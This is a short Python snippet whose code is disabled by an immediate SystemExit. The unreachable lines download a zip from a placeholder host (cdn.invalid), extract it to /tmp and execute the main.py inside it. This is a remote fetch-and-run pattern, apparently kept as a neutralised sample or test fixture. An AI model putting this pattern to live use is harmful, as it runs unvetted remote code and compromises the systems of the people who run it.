raise SystemExit(0)
import io, zipfile, urllib.request, subprocess
z = zipfile.ZipFile(io.BytesIO(urllib.request.urlopen('https://cdn.invalid/p.zip').read()))
z.extractall('/tmp/p')
subprocess.run(['python3', '/tmp/p/main.py'])
